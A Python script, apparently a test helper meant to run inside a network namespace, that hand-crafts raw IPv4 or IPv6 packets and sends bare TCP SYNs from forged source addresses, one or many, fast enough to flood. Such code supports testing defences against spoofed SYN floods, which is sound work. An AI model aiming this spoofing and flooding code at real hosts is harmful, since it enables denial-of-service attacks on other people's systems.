"""Bare TCP SYNs with a forged source, as a blind attacker sends them; run inside a
namespace: ``python spoof.py SRC DST PORT COUNT [SOURCES [STEP]]``: COUNT SYNs from SRC, or
from SOURCES addresses starting at SRC, STEP apart (1: consecutive), in turn (then as fast
as it can).  IPv4 or IPv6 (by SRC).  Needs a raw socket (root there)."""

from __future__ import annotations

import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    total += total >> 16
    return ~total & 0xFFFF


def syn(src: str, dst: str, sport: int, dport: int) -> bytes:
    """A whole IP packet (header included) carrying one bare SYN."""
    return segment(src, dst, sport, dport, random.getrandbits(32), 0, 0x02)


def segment(src: str, dst: str, sport: int, dport: int, seq: int, ack: int,
            flags: int) -> bytes:
    """A whole IP packet (header included) carrying one TCP segment without data."""
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 64240, 0, 0)
    if ":" in src:
        source, destination = (socket.inet_pton(socket.AF_INET6, a) for a in (src, dst))
        pseudo = source + destination + struct.pack("!I3xB", len(tcp), 6)
        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
        return struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, source,
                           destination) + tcp
    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
                     6, 0, socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main(src: str, dst: str, port: int, count: int, sources: int = 1, step: int = 1) -> None:
    first = ipaddress.ip_address(src)
    family = socket.AF_INET6 if first.version == 6 else socket.AF_INET
    # IPPROTO_RAW: the packet carries its own IP header (IPv6 too, on Linux).
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for number in range(count):
            source = str(first + number % sources * step)
            sock.sendto(syn(source, dst, random.randint(20000, 60000), port), (dst, 0))
            if sources == 1:
                time.sleep(0.05)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]),
         *(int(arg) for arg in sys.argv[5:7]))
